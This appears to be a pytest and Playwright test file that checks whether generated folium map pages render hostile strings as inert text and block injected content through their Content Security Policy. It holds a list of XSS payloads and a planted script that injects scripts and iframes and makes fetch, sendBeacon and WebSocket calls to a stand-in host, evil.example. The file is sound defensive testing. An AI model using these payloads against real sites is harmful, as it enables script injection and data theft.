"""Hostile and damaged texts in every slot of a map, and the page's own policy, in a real browser."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import folium
import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from playwright.sync_api import expect
from shapely import box

from hanting_geo.outputs.maps import plan as plans
from hanting_geo.outputs.maps.packed import PackedLayer
from hanting_geo.outputs.maps.zone_map import zone_map
from hanting_geo.outputs.page.page import save_page

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from playwright.sync_api import Page, Request

RUN = "window.__pwned=1;alert(1)"
PAYLOADS = [
    f'<img src=x onerror="{RUN}">',
    f"</script><script>{RUN}</script>",
    f'<svg onload="{RUN}"></svg>',
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    "{{ 7*191 }}",
    "{% raw %}{{ 7*191 }}",
    f"javascript:{RUN}//\"'><b>",
    f"]]><i onmouseover={RUN}>",
    f"<!--<script>{RUN}",
    f"--><style>@import 'https://evil.example/x'</style>{RUN}",
    f"line\u2028{RUN}\u2029paragraph",
    f"nul\x00<b onclick={RUN}>",
    f"half \ud800 a character <b onfocus={RUN}>",
    f"\u202eright to left <b onclick={RUN}>\u202c",
    "很长" * 600,
]
NAMES = [text.replace("\ud800", "?") for text in PAYLOADS]  # for names: half a character is for values alone
SHORT = [text for text in NAMES if len(text) < 200]

# What must not be on any page of ours, whatever its layers are called.
FOREIGN = (
    "[...document.querySelectorAll('*')].filter((node) =>"
    " node.matches('img:not(.leaflet-tile), iframe, object, embed, link, base, form, math, video, b, i,"
    " svg svg, foreignObject, animate, [href^=javascript], [src]:not(.leaflet-tile), .hg style')"
    " || [...node.attributes].some(({ name }) => name.startsWith('on'))).map((node) => node.outerHTML.slice(0, 120))"
)
SCRIPTS = "document.querySelectorAll('script:not([type])').length"
POLICY = "document.querySelector('meta[http-equiv=Content-Security-Policy]').content"


def _codes(text: str) -> list[int]:
    """Give UTF-16, in which a browser holds text: half a character comes through no other way."""
    return np.frombuffer(text.encode("utf-16-le", "surrogatepass"), dtype="<u2").tolist()


def _shows(page: Page, selector: str, text: str) -> bool:
    """Tell whether an element holds exactly this text in a text node."""
    found: bool = page.evaluate(
        "([selector, codes]) => { const text = String.fromCharCode(...codes);"
        " const inside = (node) => [...node.childNodes].some((child) =>"
        " child.nodeType === 3 ? child.data.includes(text) : inside(child));"
        " return [...document.querySelectorAll(selector)].some(inside); }",
        [selector, _codes(text)],
    )
    return found


def _type(page: Page, selector: str, text: str) -> None:
    page.evaluate(
        "([selector, codes]) => { const input = document.querySelector(selector);"
        " input.value = String.fromCharCode(...codes); input.dispatchEvent(new Event('input')); }",
        [selector, _codes(text)],
    )


def _is_clean(opened: Any, *, scripts: int | None = None) -> None:
    page = opened.page
    assert opened.complaints == []  # no dialog, no message on the console, no error
    assert opened.requests == [page.url.partition("#")[0]]
    assert page.evaluate("window.__pwned === undefined")
    assert page.evaluate(FOREIGN) == []
    allowed = page.evaluate(POLICY).count("'sha256-") if scripts is None else scripts
    assert page.evaluate(SCRIPTS) == allowed  # those of the policy, and no other
    assert "1337" not in page.evaluate("document.body.innerText")


def _column(*values: str) -> pd.Series[Any]:
    """Give a column of objects: one of text takes no half characters."""
    return pd.Series(values, dtype=object)


def _layer(text: str, turn: int, rows: int = 2) -> gpd.GeoDataFrame:
    x = 430000 + 1200 * (turn % 4)
    y = 4071000 + 1200 * (turn // 4)
    frame = gpd.GeoDataFrame(
        {
            "accuracy_m": 9.0,
            **{name: _column(*[text] * rows) for name in ("name_zh", "kind", "status", "source", "note", "licence")},
            "id": _column(text, *(f"plain {turn} {k}" for k in range(1, rows))),
            "name_en": _column(*[text + " (en)"] * rows),
            f"class{turn}": _column(text, *["plain"] * (rows - 1)),
            f"text{turn}": _column(text, *(f"{text} {k}" for k in range(1, rows))),
        },
        geometry=[box(x + 10 * k, y, x + 10 * k + 1000, y + 1000) for k in range(rows)],
        crs=4549,
    )
    frame.attrs["hanting_geo"] = {
        "title_zh": text,
        "title_en": text,
        "licence": text,
        "attribution": text + " OpenStreetMap",
        "finding_counts": {text: 1},
    }
    return frame


def _map() -> folium.Map:
    layers = {name: _layer(PAYLOADS[turn], turn) for turn, name in enumerate(NAMES)}
    layers["many"] = _layer(PAYLOADS[0], 16, rows=230)
    lost = _layer(PAYLOADS[0], 17)
    layers["lost"] = lost.set_geometry(gpd.GeoSeries([None, None], index=lost.index, crs=4549))
    columns = {}
    for turn, text in enumerate(PAYLOADS):
        columns |= {f"text{turn}": {"zh": text, "en": text}, f"class{turn}": {"zh": text, "en": text}}
    columns |= {"text16": "text", "class16": "class", "id": "id", "source": "source", "licence": "licence"}
    style = {
        NAMES[turn]: {"column": f"class{turn}", "labels": {text: text}, "names": turn % 2 == 0}
        for turn, text in enumerate(PAYLOADS)
    }
    title = " ".join(SHORT)
    statistics = {
        name: pd.DataFrame(
            {"zone_id": _column(*[PAYLOADS[turn]] * 2), "class": [name, "b"], "features": 1, "plane_m2": [2e6, 1e6]}
        ).assign(share=0.1, length_m=0.0)
        for turn, name in enumerate(NAMES)
    }
    return zone_map(layers, title={"zh": title, "en": title}, popup=columns, style=style, statistics=statistics)


@pytest.fixture(scope="module", params=["plain", "packed"])
def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    with pytest.MonkeyPatch.context() as patch:
        if request.param == "packed":
            patch.setattr(plans, "_MOST_PLAIN", 0)
        made = _map()
    assert isinstance(made.plan.many, set)
    assert bool(made.plan.many) == (request.param == "packed")
    return save_page(made, tmp_path_factory.mktemp("hostile") / f"{request.param}.html")


def some_turns(request: pytest.FixtureRequest, first: int) -> list[int]:
    """Give every sixth of the texts; in the long run, all."""
    return list(range(first, len(PAYLOADS), 6) if request.config.getoption("markexpr") else range(len(PAYLOADS)))


@pytest.fixture
def turns(hostile: Path, request: pytest.FixtureRequest) -> list[int]:
    """Give the texts that are looked at: every sixth, others on a packed page than on a plain one."""
    return some_turns(request, int(hostile.stem == "packed"))


@pytest.fixture(scope="module")
def opened(hostile: Path, open_once: Callable[..., Any]) -> Any:
    """Give the page, opened once; every test leaves it as it was."""
    opened = open_once(hostile, width=1600, height=1000)
    expect(opened.page.locator(".hg-every summary")).to_contain_text("264")
    return opened


def _becomes(page: Page, selector: str, text: str) -> bool:
    """Tell whether an element comes to hold this text."""
    for _ in range(100):
        if _shows(page, selector, text):
            return True
        page.wait_for_timeout(20)
    return False


def test_what_the_mouse_points_at_shows_text(opened: Any, turns: list[int]) -> None:
    page = opened.page
    at = "(([lat, lng]) => { const map = Object.values(window).find((value) => value instanceof L.Map);"
    at += " const p = map.latLngToContainerPoint([lat, lng]), box = map.getContainer().getBoundingClientRect();"
    at += " return [p.x + box.left, p.y + box.top]; })"
    for turn in turns:
        text = PAYLOADS[turn]
        middle = _layer(text, turn).to_crs(4326).geometry.iloc[0].representative_point()
        page.mouse.move(*page.evaluate(f"{at}([{middle.y}, {middle.x}])"))
        assert _becomes(page, ".hg-tip", text), turn
    page.mouse.move(5, 5)
    _is_clean(opened)


def test_search_popup_legend_and_sources_show_text(opened: Any, turns: list[int]) -> None:
    page = opened.page
    for turn in turns:
        text = PAYLOADS[turn]
        _type(page, "#hg-search", text)
        assert _shows(page, ".hg-results li:first-child button", text)
        page.locator(".hg-results button").first.evaluate("(node) => node.click()")
        assert _shows(page, ".leaflet-popup .hg-card h3", text)
        for part in (".hg-class", "tr th", "tr td"):
            assert _shows(page, f".leaflet-popup .hg-card {part}", text), (turn, part)
        for part in ("caption", "tbody th"):
            assert _shows(page, f".leaflet-popup .hg-bars {part}", NAMES[turn]), (turn, part)
        page.keyboard.press("Escape")
        for part in ("label", "li button"):
            assert _shows(page, f".hg-layer {part}", text), (turn, part)
        for part in ("summary", "p", "li"):
            assert _shows(page, f".hg-basis details {part}", text), (turn, part)
        assert _shows(page, ".hg-basis summary small", text.split(";")[0]), turn  # attributions part at semicolons
    _is_clean(opened)
    page.locator(".hg-results button").first.evaluate("(node) => node.click()")
    page.locator("#hg-language").click()
    page.locator(".hg-missing summary").click()
    page.locator(".hg-missing button").first.click()
    assert _shows(page, ".hg-missing .hg-card h3", PAYLOADS[0])
    title = " ".join(SHORT)
    assert _shows(page, "h1", title)
    for part in ("html", ".hg-panel", ".leaflet-popup-content"):  # however long a word is
        assert page.locator(part).evaluate_all("(all) => all.every((node) => node.scrollWidth <= node.clientWidth)"), (
            part
        )
    _is_clean(opened)
    page.locator("#hg-language").click()
    page.keyboard.press("Escape")
    _type(page, "#hg-search", "")


def test_filters_and_their_chips_show_text(opened: Any, turns: list[int]) -> None:
    page = opened.page
    page.locator(".hg-filter summary").click()
    boxes = page.locator(".hg-filter select")
    for turn in turns:
        boxes.nth(0).select_option(index=turn)
        assert _shows(page, ".hg-filter select option", PAYLOADS[turn])
        boxes.nth(2).select_option(index=1)
        assert _shows(page, ".hg-chips button", PAYLOADS[turn]), turn
    assert page.locator(".hg-chips button").count() == len(turns)
    boxes.nth(0).select_option(index=len(PAYLOADS))
    for turn in turns:
        text = PAYLOADS[turn][:200]
        _type(page, ".hg-filter input", text)
        assert _shows(page, ".hg-chips button", text.strip().lower())
    page.locator("#hg-language").click()
    _is_clean(opened)
    while page.locator(".hg-chips button").count():
        page.locator(".hg-chips button").last.evaluate("(node) => node.click()")
    _is_clean(opened)
    page.locator("#hg-language").click()
    page.locator(".hg-filter summary").click()


def test_packed_layers_on_a_folium_map_show_text(
    tmp_path: Path, request: pytest.FixtureRequest, open_page: Callable[..., Any]
) -> None:
    made = folium.Map([36.79, 119.24], tiles=None, zoom_start=12, max_zoom=18)
    texts = {turn: PAYLOADS[turn] for turn in some_turns(request, 2)}
    for turn, text in texts.items():
        style = {"column": f"class{turn}", "labels": {text: text}}
        group = folium.FeatureGroup(name=f"group {turn}").add_to(made)
        PackedLayer(_layer(text, turn), name=NAMES[turn], style=style).add_to(made if turn % 3 else group)
    folium.LayerControl(collapsed=False).add_to(made)
    opened = open_page(save_page(made, tmp_path / "packed.html"))
    page = opened.page
    page.locator(".hg-box").last.wait_for()
    expect(page.locator(".hg-every summary").last).to_contain_text("2", use_inner_text=False)
    for turn, text in texts.items():
        assert _shows(page, ".hg-box > summary", NAMES[turn]), turn
        assert _shows(page, ".hg-box .hg-layer li", text), turn
        assert _shows(page, ".hg-box .hg-credit", text), turn
        if turn % 3 and "\x00" not in text:  # folium's own names are text of the page, which holds no NUL
            assert _shows(page, ".leaflet-control-layers label", NAMES[turn]), turn
    page.evaluate("document.querySelectorAll('.hg-box').forEach((box) => { box.open = true; })")
    page.evaluate("document.querySelectorAll('.hg-box details').forEach((box) => { box.open = true; })")
    for turn, entry in enumerate(page.locator(".hg-box .hg-results li:first-child button").all()):
        entry.evaluate("(node) => node.click()")
        said = page.evaluate(
            "[...[...document.querySelectorAll('.leaflet-popup .hg-card h3')].pop().textContent]"
            ".flatMap((sign) => [...Array(sign.length).keys()].map((k) => sign.charCodeAt(k)))"
        )
        assert said in [_codes(text) for text in PAYLOADS], turn
    _is_clean(opened)


@pytest.mark.parametrize("most_plain", [2_000, 0])
def test_names_that_every_object_has_are_names_like_any_other(
    most_plain: int, tmp_path: Path, open_page: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(plans, "_MOST_PLAIN", most_plain)
    names = ["__proto__", "constructor", "toString", "hasOwnProperty"]
    shapes = [box(430000 + 1200 * row, 4071000, 431000 + 1200 * row, 4072000) for row in range(len(names))]
    frame = gpd.GeoDataFrame({"id": names, **dict.fromkeys(names, names)}, geometry=shapes, crs=4549)
    frame.attrs["hanting_geo"] = {"finding_counts": dict.fromkeys(names, 7)}
    table = pd.DataFrame({"zone_id": names, "class": names[::-1], "features": 1, "length_m": 0.0, "plane_m2": 2e6})
    made = zone_map(
        {"__proto__": frame},
        title="constructor",
        popup=names,
        style={"__proto__": {"column": "__proto__"}},
        statistics={"__proto__": table},
    )
    opened = open_page(save_page(made, tmp_path / "map.html"))
    page = opened.page
    expect(page.locator(".hg-every summary")).to_contain_text("4")
    for name, other in zip(names, names[::-1], strict=True):
        _type(page, "#hg-search", name)
        page.locator(".hg-results button").first.evaluate("(node) => node.click()")
        expect(page.locator(".hg-card h3").last).to_have_text(name)
        card = page.locator(".hg-card").last
        # The card of the one before may still fade away.
        expect(card.locator("th[scope=row]").last).to_have_text(names[-1])
        assert card.locator("th[scope=row]").all_text_contents()[-4:] == names
        assert card.locator("td:not(:has(span))").all_text_contents() == [name] * 4
        assert card.locator(".hg-bars tbody th").first.text_content() == other
        page.keyboard.press("Escape")
        assert _shows(page, ".hg-layer li button", name)
        assert _shows(page, ".hg-basis details p", f"7 {name}")
    page.locator(".hg-filter summary").click()
    expect(page.locator(".hg-filter select").first.locator("option")).to_have_text(names)  # filled once it is open
    page.locator(".hg-filter select").nth(1).select_option(index=1)
    assert page.locator(".hg-chips button").count() == 1
    _is_clean(opened)


# ---- the policy of the page ----

PLANTED = """async (remote) => {
  const refused = [];
  document.addEventListener("securitypolicyviolation", (event) =>
    refused.push(event.effectiveDirective + " " + event.blockedURI));
  const add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
  add("script", { textContent: "window.__pwned = 1" });
  add("script", { src: "https://evil.example/x.js" });
  const run = "'window.__pwned = 1'";
  add("div", { innerHTML: `<button id=planted onclick=${run}>x</button><img src=data:, onerror=${run}>` });
  document.getElementById("planted").click();
  add("iframe", { src: "https://evil.example/" });
  add("iframe", { srcdoc: "<script>parent.__pwned = 1</" + "script>" });
  add("object", { data: "https://evil.example/" });
  add("link", { rel: "stylesheet", href: "https://evil.example/x.css" });
  add("base", { href: "https://evil.example/" });
  for (const src of remote) add("img", { src });
  await fetch("https://evil.example/").catch(() => 0);
  navigator.sendBeacon("https://evil.example/", "x");
  try { new WebSocket("wss://evil.example/"); } catch { /* refused at once */ }
  const later = () => { // not in the tester's own task, which the policy does not bind
    for (const run of [() => eval("window.__pwned = 1"), () => new Function("window.__pwned = 1")()]) {
      try { run(); } catch { /* refused */ }
    }
  };
  setTimeout(later, 0);
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return refused;
}"""
OTHERS = [
    "https://evil.example/x.png",
    "http://tile.openstreetmap.org/1/1/1.png",
    "https://tile.openstreetmap.org.evil.example/",
]
TILE = "https://tile.openstreetmap.org/1/1/1.png"


def _left(page: Page) -> list[str]:
    """List what goes on to the network: the browser announces a request that it refuses, too."""
    left: list[str] = []

    def failed(request: Request) -> None:
        if request.failure not in {"csp", "net::ERR_BLOCKED_BY_CSP"}:
            left.append(request.url)

    page.on("requestfailed", failed)
    page.on("requestfinished", lambda request: left.append(request.url))
    return left


def test_the_browser_refuses_what_is_planted_later(tmp_path: Path, open_page: Callable[..., Any]) -> None:
    opened = open_page(save_page(zone_map({"a": _layer("a", 0)}, title="x"), tmp_path / "page.html"))
    left = _left(opened.page)
    refused = opened.page.evaluate(PLANTED, [*OTHERS, TILE])
    kinds = {line.split(" ")[0] for line in refused}
    assert kinds >= {
        "script-src-elem",
        "script-src-attr",
        "script-src",
        "img-src",
        "connect-src",
        "frame-src",
        "object-src",
    }
    assert kinds >= {"style-src-elem", "base-uri"}
    for address in [*OTHERS, TILE]:
        assert f"img-src {address}" in refused
    assert opened.page.evaluate("window.__pwned === undefined")
    assert left == []


def test_a_basemap_opens_the_page_to_the_images_of_one_host(tmp_path: Path, open_page: Callable[..., Any]) -> None:
    said = " ".join(SHORT)
    osm = {"url": "https://tile.openstreetmap.org/{z}/{x}/{y}.png", "attribution": said, "max_zoom": 19}
    opened = open_page(save_page(zone_map({"a": _layer("a", 0)}, title="x", basemap=osm), tmp_path / "page.html"))
    page = opened.page
    expect(page.locator("img.leaflet-tile").first).to_be_attached()
    assert _shows(page, ".leaflet-control .hg-credit, .hg-credit", said)
    assert _shows(page, ".hg-basis dd", said)
    assert page.evaluate(FOREIGN) == []
    left = _left(page)
    refused = page.evaluate(PLANTED, [*OTHERS, TILE])
    for address in OTHERS:
        assert f"img-src {address}" in refused
    assert f"img-src {TILE}" not in refused
    assert page.evaluate("window.__pwned === undefined")
    assert {url.split("/")[2] for url in left} == {"tile.openstreetmap.org"}
    assert not any(line.startswith("dialog") for line in opened.complaints)
